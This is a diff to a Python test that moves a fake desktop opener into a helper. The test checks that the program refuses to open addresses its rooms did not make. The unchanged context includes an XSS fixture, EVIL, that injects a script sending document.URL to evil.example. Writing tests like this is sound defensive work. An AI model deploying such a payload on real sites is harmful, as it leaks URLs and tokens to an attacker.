@@ -9,6 +9,7 @@ import threading
 
 from conftest import PROGRAM
 from door import ask
+from rooms import desktop
 
 HONEST = "http://127.0.0.1:8720/operator/#t=" + "A" * 43
 EVIL = 'https://127.0.0.1:1/"><script>location="https://evil.example/?"+document.URL</script><a href="'
@@ -52,11 +53,7 @@ def status_of_a_room(started, environment):
 
 def test_an_address_that_no_room_makes_is_not_opened(started, roomful, environment, folder):
     status = status_of_a_room(started, environment)
-    opener = folder / "bin/xdg-open"
-    opener.parent.mkdir()
-    opener.write_text(f'#!/bin/sh\ncp "$1" {folder}/opened.html\n')
-    opener.chmod(0o755)
-    desktop = {"DISPLAY": ":9", "PATH": f"{opener.parent}:{os.environ['PATH']}"}
+    shown = desktop(folder)
     path = folder / "state/run/double.sock"
     for answer in (
         {"pages": [EVIL]},
@@ -66,7 +63,7 @@ def test_an_address_that_no_room_makes_is_not_opened(started, roomful, environme
     ):
         with answering(path, {"status": {"status": status}, "pages": answer}) as listener:
             for arguments in ([], ["--print"], ["--json"]):
-                code, out, err = roomful("open", *arguments, **desktop)
+                code, out, err = roomful("open", *arguments, **shown)
                 assert code == 1 and out == "" and "no room makes" in err, (answer, arguments, out, err)
             listener.shutdown(socket.SHUT_RDWR)
         path.unlink()
